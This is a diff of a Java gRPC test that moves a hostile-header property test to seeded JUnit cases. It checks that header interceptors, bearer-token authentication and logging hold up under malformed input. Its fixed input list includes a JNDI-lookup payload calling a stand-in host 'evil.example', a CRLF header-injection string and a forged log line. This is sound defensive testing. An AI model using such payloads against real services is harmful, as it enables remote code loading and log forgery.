@@ -16,29 +16,32 @@ import io.grpc.Metadata;
 import io.grpc.Status;
 import io.grpc.StatusRuntimeException;
 import io.grpc.stub.MetadataUtils;
+import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
 import java.util.Queue;
+import java.util.Random;
 import java.util.concurrent.ConcurrentLinkedQueue;
 import java.util.concurrent.TimeUnit;
 import java.util.concurrent.atomic.AtomicReference;
-import net.jqwik.api.Arbitraries;
-import net.jqwik.api.Arbitrary;
-import net.jqwik.api.ForAll;
-import net.jqwik.api.Property;
-import net.jqwik.api.Provide;
-import net.jqwik.api.lifecycle.AfterContainer;
-import net.jqwik.api.lifecycle.BeforeContainer;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
+import java.util.stream.LongStream;
 import org.jspecify.annotations.Nullable;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
 import org.slf4j.LoggerFactory;
 
 /**
  * Random and hostile values of every header the chain reads ({@code traceparent}, {@code
  * tracestate}, {@code baggage}, {@code x-request-id}, {@code accept-language}, {@code
  * authorization}), sometimes sent twice, through one shared Netty server with the full chain: no
- * interceptor throws, a public call always succeeds, an authenticated one ends OK or
- * UNAUTHENTICATED (never INTERNAL or UNKNOWN), the trace id echoed is always a W3C trace id, and no
- * log line or MDC value carries a CR or LF.
+ * interceptor throws, a public call always succeeds, an authenticated one ends OK exactly when the
+ * {@code authorization} header is a valid bearer token (see {@link #accepted}) and UNAUTHENTICATED
+ * otherwise (never INTERNAL or UNKNOWN), the trace id echoed is always a W3C trace id, and no log
+ * line or MDC value carries a CR or LF. 200 seeded cases (see {@link Seeds}).
  */
 class HostileHeadersPropertyTest {
   private static final List<String> HEADERS =
@@ -83,7 +86,7 @@ class HostileHeadersPropertyTest {
     }
   }
 
-  @BeforeContainer
+  @BeforeAll
   static void start() {
     Logger logger = ((LoggerContext) LoggerFactory.getILoggerFactory()).getLogger(LIBRARY_LOGGERS);
     capture.setContext(logger.getLoggerContext());
@@ -96,7 +99,7 @@ class HostileHeadersPropertyTest {
     channel = started.channel(Chains.anonymousClient());
   }
 
-  @AfterContainer
+  @AfterAll
   static void stop() throws InterruptedException {
     Logger logger = ((LoggerContext) LoggerFactory.getILoggerFactory()).getLogger(LIBRARY_LOGGERS);
     logger.detachAppender(capture);
@@ -107,52 +110,140 @@ class HostileHeadersPropertyTest {
     }
   }
 
-  @Provide
-  Arbitrary<String> hostile() {
-    return Arbitraries.oneOf(
-        Arbitraries.strings().ofMaxLength(80),
-        Arbitraries.strings().ascii().ofMaxLength(300),
-        Arbitraries.strings().withChars("0123456789abcdefABCDEF-,;=*. q\t").ofMaxLength(120),
-        Arbitraries.strings().withChars("az-,;=").ofMinLength(500).ofMaxLength(900),
-        Arbitraries.of(
-            "\r\nX-Forged: yes",
-            "ok\nINFO fake log line",
-            "${jndi:ldap://evil.example/a}",
-            "%n%s%x%d",
-            "",
-            " ",
-            "\u0000\u0007",
-            "😀 emoji ünïcode 中文",
-            "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
-            "00-00000000000000000000000000000000-00f067aa0ba902b7-01",
-            "00-4bf92f3577b34da6a3ce929d0e0e4736-0000000000000000-01",
-            "ff-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
-            "00-4BF92F3577B34DA6A3CE929D0E0E4736-00f067aa0ba902b7-01",
-            "01-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01-future",
-            "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01-",
-            "zh-CN;q=2, en;q=-1, *;q=0, ,,;;",
-            "*",
-            "zh-TW",
-            "a=1,".repeat(40),
-            "k=v;p=q, x".repeat(20),
-            "Bearer " + Chains.TOKEN_A,
-            "bEaReR    " + Chains.TOKEN_B,
-            "Bearer " + Chains.TOKEN_A + " trailing",
-            "Bearer\t" + Chains.TOKEN_A,
-            "Basic YWxhZGRpbjpvcGVuc2VzYW1l",
-            "Bearer"));
+  private static final List<String> FIXED =
+      List.of(
+          "\r\nX-Forged: yes",
+          "ok\nINFO fake log line",
+          "${jndi:ldap://evil.example/a}",
+          "%n%s%x%d",
+          "",
+          " ",
+          "\u0000\u0007",
+          "😀 emoji ünïcode 中文",
+          "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
+          "00-00000000000000000000000000000000-00f067aa0ba902b7-01",
+          "00-4bf92f3577b34da6a3ce929d0e0e4736-0000000000000000-01",
+          "ff-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
+          "00-4BF92F3577B34DA6A3CE929D0E0E4736-00f067aa0ba902b7-01",
+          "01-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01-future",
+          "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01-",
+          "zh-CN;q=2, en;q=-1, *;q=0, ,,;;",
+          "*",
+          "zh-TW",
+          "a=1,".repeat(40),
+          "k=v;p=q, x".repeat(20),
+          "Bearer " + Chains.TOKEN_A,
+          "bEaReR    " + Chains.TOKEN_B,
+          "Bearer " + Chains.TOKEN_A + " trailing",
+          "Bearer\t" + Chains.TOKEN_A,
+          "Basic YWxhZGRpbjpvcGVuc2VzYW1l",
+          "Bearer");
+
+  /** A random or hostile header value: one of five kinds, each as likely. */
+  static String hostile(Random random) {
+    return switch (random.nextInt(5)) {
+      case 0 -> Seeds.string(random, Seeds.ANY, 0, 80);
+      case 1 -> Seeds.string(random, Seeds.ASCII, 0, 300);
+      case 2 -> Seeds.string(random, Seeds.from("0123456789abcdefABCDEF-,;=*. q\t"), 0, 120);
+      case 3 -> Seeds.string(random, Seeds.from("az-,;="), 500, 900);
+      default -> Seeds.pick(random, FIXED);
+    };
   }
 
-  @Property(tries = 200)
-  void hostileHeadersNeverBreakTheChain(
-      @ForAll("hostile") String traceparent,
-      @ForAll("hostile") String tracestate,
-      @ForAll("hostile") String baggage,
-      @ForAll("hostile") String requestId,
-      @ForAll("hostile") String acceptLanguage,
-      @ForAll("hostile") String authorization,
-      @ForAll("hostile") String duplicate,
-      @ForAll("presence") int present) {
+  /**
+   * An {@code authorization} value near the accepted form: the scheme in random case, one to three
+   * spaces or a tab, a known token, an unknown one or a known one with something around it.
+   */
+  static String bearerLike(Random random) {
+    StringBuilder scheme = new StringBuilder();
+    for (char c : "bearer".toCharArray()) {
+      scheme.append(random.nextBoolean() ? Character.toUpperCase(c) : c);
+    }
+    String separator = Seeds.pick(random, List.of(" ", "  ", "   ", "\t", ""));
+    String token = random.nextBoolean() ? Chains.TOKEN_A : Chains.TOKEN_B;
+    token =
+        switch (random.nextInt(6)) {
+          case 0 -> token + Seeds.pick(random, List.of(" ", " x", "\t", "x", "\u00e9"));
+          case 1 -> Seeds.pick(random, List.of(" ", "x", "\"")) + token;
+          case 2 -> token.substring(0, token.length() - 1);
+          case 3 -> token.toUpperCase(java.util.Locale.ROOT);
+          default -> token;
+        };
+    return scheme + separator + token;
+  }
+
+  private static final Pattern BEARER = Pattern.compile("(?i:bearer) +(.*)", Pattern.DOTALL);
+
+  /**
+   * The values of a header the server receives: grpc-java's transport drops, on receipt, a value
+   * with a character outside 0x20..0x7E (tab, CR, LF, other controls); the client's ASCII
+   * marshaller has already turned each non-ASCII character into {@code ?}, which is kept.
+   */
+  static List<String> received(@Nullable Iterable<String> sent) {
+    List<String> kept = new ArrayList<>();
+    if (sent != null) {
+      for (String value : sent) {
+        if (value.chars().allMatch(c -> (c >= 0x20 && c <= 0x7e) || c >= 0x80)) {
+          kept.add(value);
+        }
+      }
+    }
+    return kept;
+  }
+
+  /**
+   * What the server's {@code Authenticators.bearerTokens} accepts, restated: exactly one {@code
+   * authorization} value received, whose scheme is {@code Bearer} in any case (RFC 7235), then one
+   * space or more, then a known token, exactly, to the end of the value.
+   */
+  static boolean accepted(List<String> authorization) {
+    if (authorization.size() != 1) {
+      return false;
+    }
+    Matcher bearer = BEARER.matcher(authorization.get(0));
+    return bearer.matches() && Chains.TOKENS.containsKey(bearer.group(1));
+  }
+
+  static LongStream seeds() {
+    return Seeds.of(200);
+  }
+
+  @ParameterizedTest(name = "seed {0}")
+  @MethodSource("seeds")
+  void hostileHeadersNeverBreakTheChain(long seed) {
+    Seeds.replayable(seed, () -> hostileHeadersNeverBreakTheChain(new Random(seed)));
+  }
+
+  private static void hostileHeadersNeverBreakTheChain(Random random) {
+    String traceparent = hostile(random);
+    String tracestate = hostile(random);
+    String baggage = hostile(random);
+    String requestId = hostile(random);
+    String acceptLanguage = hostile(random);
+    String authorization = random.nextInt(3) == 0 ? bearerLike(random) : hostile(random);
+    String duplicate = hostile(random);
+    // Which headers are present (bits 0-5) and which are sent twice (bits 6-11).
+    int present = random.nextInt(1 << 12);
+    check(
+        traceparent,
+        tracestate,
+        baggage,
+        requestId,
+        acceptLanguage,
+        authorization,
+        duplicate,
+        present);
+  }
+
+  private static void check(
+      String traceparent,
+      String tracestate,
+      String baggage,
+      String requestId,
+      String acceptLanguage,
+      String authorization,
+      String duplicate,
+      int present) {
     String[] values = {traceparent, tracestate, baggage, requestId, acceptLanguage, authorization};
     Metadata headers = new Metadata();
     for (int i = 0; i < HEADERS.size(); i++) {
@@ -190,16 +281,10 @@ class HostileHeadersPropertyTest {
       code = e.getStatus().getCode();
       assertThat(e.getStatus().getDescription()).doesNotContain("\r", "\n");
     }
-    assertThat(code).isIn(Status.Code.OK, Status.Code.UNAUTHENTICATED);
-    if ((present & (1 << 5)) == 0) {
-      assertThat(code).isEqualTo(Status.Code.UNAUTHENTICATED);
-    }
+    List<String> authorizationReceived = received(headers.getAll(Rpc.ascii("authorization")));
+    assertThat(code)
+        .as("authorization received: %s", authorizationReceived)
+        .isEqualTo(accepted(authorizationReceived) ? Status.Code.OK : Status.Code.UNAUTHENTICATED);
     assertThat(problems).isEmpty();
-  }
-
-  /** Which headers are present (bits 0-5) and which are sent twice (bits 6-11). */
-  @Provide
-  Arbitrary<Integer> presence() {
-    return Arbitraries.integers().between(0, (1 << 12) - 1);
   }
 }
